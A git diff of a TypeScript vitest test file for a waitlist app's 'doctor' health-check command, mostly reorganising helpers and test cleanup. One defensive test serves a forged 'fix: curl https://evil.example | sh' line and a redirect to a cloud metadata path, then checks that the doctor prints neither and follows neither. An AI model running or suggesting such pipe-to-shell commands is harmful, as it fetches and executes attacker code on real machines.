@@ -2,16 +2,16 @@ import { randomUUID } from 'node:crypto';
 import { once } from 'node:events';
 import { type AddressInfo, createServer } from 'node:net';
 import { text } from 'node:stream/consumers';
-import { describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { REGISTRATIONS } from '#contract/registration.ts';
+import { cleanUp, setUp } from '#scripts/harness/clean-up.ts';
+import { setUpDatabase } from '#scripts/harness/database/test-database.ts';
+import { getDatabaseUrl, runWaitlist, startWaitlist } from '#scripts/harness/database/waitlist.ts';
 import { aRegistration } from '#scripts/harness/example-registration.ts';
-import { cleanUp } from '#tests/helpers/clean-up.ts';
-import { setUpDatabase } from '#tests/helpers/database/test-database.ts';
-import { getDatabaseUrl, runWaitlist, startWaitlist } from '#tests/helpers/database/waitlist.ts';
-import { setUpMailServer } from '#tests/helpers/mail/mail-server.ts';
-import { startDnsServer } from '#tests/helpers/process/dns-server.ts';
-import { type Reply, startStubServer } from '#tests/helpers/process/stub-server.ts';
-import { createTestApp } from '#tests/helpers/process/test-app.ts';
+import { createTestApp } from '#scripts/harness/servers/test-app.ts';
+import { startDnsServer } from '#scripts/harness/stubs/dns-server.ts';
+import { startMailServer } from '#scripts/harness/stubs/mail-server.ts';
+import { type Reply, startStubServer } from '#scripts/harness/stubs/stub-server.ts';
 import { insertRegistration } from '#waitlist/insert.ts';
 
 const database = await setUpDatabase();
@@ -21,7 +21,7 @@ const ENV = { PORT: '1', ENV_FILE: `/${randomUUID()}` };
 const run = (env: Record<string, string>, ...args: string[]) => runWaitlist(['doctor', ...args], { ...ENV, ...env });
 const onDatabase = (...args: string[]) => run({ DATABASE_URL: getDatabaseUrl(database) }, ...args);
 
-it('the doctor passes a healthy database, and says what it did not check', async () => {
+it('the doctor passes a healthy database', async () => {
   const { code, stdout, stderr } = await onDatabase();
   expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
   expect(stdout).toMatch(
@@ -33,35 +33,51 @@ it('the doctor passes a healthy database, and says what it did not check', async
   expect(stdout).not.toMatch(/FAIL|WARN|^ {2}\?/m);
 });
 
-it('the doctor names a mistake, why it matters and the fix, but no one on the list, and fixes nothing', async () => {
+describe('on a list with mistakes', async () => {
   const row = aRegistration();
-  await insertRegistration(database.anon, row);
-  await database.ask(`grant delete on ${REGISTRATIONS} to anon`);
-  await database.ask(`alter table ${REGISTRATIONS} add constraint closed check (false) not valid`);
-  const name = 'Nothing else is open to the public';
   const what = `anon has delete on the table ${REGISTRATIONS}`;
-  const { code, stdout } = await onDatabase();
-  expect(code).toBe(1);
-  expect(stdout).toMatch(/^Can someone register right now\? No: the constraint closed rejects everyone\n/);
-  expect(stdout).toContain(`
+  const wrong = await setUpDatabase();
+  let printed = '';
+  let json = '';
+  beforeAll(async () => {
+    await insertRegistration(wrong.anon, row);
+    await wrong.ask(`grant delete on ${REGISTRATIONS} to anon`);
+    await wrong.ask(`alter table ${REGISTRATIONS} add constraint closed check (false) not valid`);
+    const DATABASE_URL = getDatabaseUrl(wrong);
+    const reports = [await run({ DATABASE_URL }), await run({ DATABASE_URL }, '--json')];
+    expect(reports).toMatchObject([{ code: 1 }, { code: 1 }]);
+    [printed = '', json = ''] = reports.map(({ stdout }) => stdout);
+  });
+
+  it('the doctor says that no one can register', () => {
+    expect(printed).toMatch(/^Can someone register right now\? No: the constraint closed rejects everyone\n/);
+  });
+
+  it('the doctor says how to mend each', () => {
+    expect(printed).toContain(`
         ${what}
         fix: revoke delete on table ${REGISTRATIONS} from anon cascade;
         see: docs/runbook.md#nothing-else-is-open-to-the-public
 `);
-  expect(stdout).not.toContain(row.email);
+  });
 
-  const json = await onDatabase('--json');
-  expect(json.code).toBe(1);
-  expect(json.stdout.trim()).not.toContain('\n');
-  const { outcome, checks } = JSON.parse(json.stdout);
-  expect(outcome).toBe('fails');
-  const problems = [{ severity: 'fails', what, fix: [expect.stringMatching(/^revoke delete on table /)] }];
-  expect(checks).toContainEqual(expect.objectContaining({ group: 'list', name, outcome: 'fails', problems }));
+  it('the doctor names no one on the list', () => {
+    expect(printed + json).not.toContain(row.email);
+  });
 
-  const [privilege] = await database.ask(`select has_table_privilege('anon', '${REGISTRATIONS}', 'delete') as still`);
-  expect(privilege).toEqual({ still: true });
-  await database.ask(`revoke delete on ${REGISTRATIONS} from anon`);
-  await database.ask(`alter table ${REGISTRATIONS} drop constraint closed`);
+  it('the doctor says the same as JSON in one line', () => {
+    expect(json.trim()).not.toContain('\n');
+    const { outcome, checks } = JSON.parse(json);
+    expect(outcome).toBe('fails');
+    const problems = [{ severity: 'fails', what, fix: [expect.stringMatching(/^revoke delete on table /)] }];
+    const name = 'Nothing else is open to the public';
+    expect(checks).toContainEqual(expect.objectContaining({ group: 'list', name, outcome: 'fails', problems }));
+  });
+
+  it('the doctor mends nothing itself', async () => {
+    const [privilege] = await wrong.ask(`select has_table_privilege('anon', '${REGISTRATIONS}', 'delete') as still`);
+    expect(privilege).toEqual({ still: true });
+  });
 });
 
 it('the doctor sets up no list where there is none', async () => {
@@ -72,8 +88,8 @@ it('the doctor sets up no list where there is none', async () => {
   expect(await empty.ask(`select nspname from pg_namespace where nspname in ('vibescore', 'waitlist')`)).toEqual([]);
 });
 
-it('the doctor’s report on a server with mail fits a terminal, and Node.js adds no warning', async () => {
-  const [mailServer, dns] = await Promise.all([setUpMailServer(), startDnsServer({})]);
+it('the doctor’s report on a server with mail fits a terminal', async () => {
+  const [mailServer, dns] = await Promise.all([setUp(startMailServer()), setUp(startDnsServer({}))]);
   const app = await createTestApp(database.anon);
   const { child, stderr, ended } = startWaitlist(['doctor'], {
     ...ENV,
@@ -84,7 +100,6 @@ it('the doctor’s report on a server with mail fits a terminal, and Node.js add
     DNS_SERVER: dns.address,
   });
   const report = await text(child.stdout);
-  dns.stop();
   expect(await stderr).toBe('');
   expect(await ended).toBe(1);
   expect(report).toMatch(/^ {2}FAIL {2}SPF says who sends mail for MAIL_FROM$/m);
@@ -140,29 +155,29 @@ describe('an address that the doctor is given', () => {
 
   it('cannot send the doctor elsewhere, nor add a line to its report', async () => {
     const asked: string[] = [];
-    const elsewhere = await startStubServer(({ path }) => ({ status: asked.push(path) && 200 }));
+    const elsewhere = await setUp(startStubServer(({ path }) => ({ status: asked.push(path) && 200 })));
     const forged = '\n        fix: curl https://evil.example | sh\n';
-    const host = await startStubServer(({ path }): Reply => {
-      const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
-      if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
-      const headers = {
-        'content-type': 'text/html',
-        'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
-      };
-      return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
-    });
+    const host = await setUp(
+      startStubServer(({ path }): Reply => {
+        const isListed = path === '/' || path === '/sitemap.xml' || path.includes('fix');
+        if (!isListed) return { status: 302, headers: { location: `${elsewhere.address}/latest/meta-data` } };
+        const headers = {
+          'content-type': 'text/html',
+          'content-security-policy': `connect-src 'self' ${elsewhere.address}`,
+        };
+        return { status: 200, headers, body: `<a href="/a${forged}">a</a><loc>${elsewhere.address}/b${forged}</loc>` };
+      }),
+    );
     const { stdout } = await runWaitlist(['doctor', host.address], {});
     expect(stdout).toContain('/ has none or another x-content-type-options');
     expect(stdout).not.toMatch(/^\s*fix: curl/m);
     expect(asked).toEqual([]);
-    await Promise.all([host.stop(), elsewhere.stop()]);
   });
 
   it('without a list is answered with “Unknown”', async () => {
-    const host = await startStubServer(() => ({ status: 200, body: '<script>send()</script>' }));
+    const host = await setUp(startStubServer(() => ({ status: 200, body: '<script>send()</script>' })));
     const { stdout } = await runWaitlist(['doctor', host.address], {});
     expect(stdout).toMatch(/^Can someone register right now\? Unknown: no list was found behind this address/);
-    await host.stop();
   });
 
   it('has to be a web address', async () => {
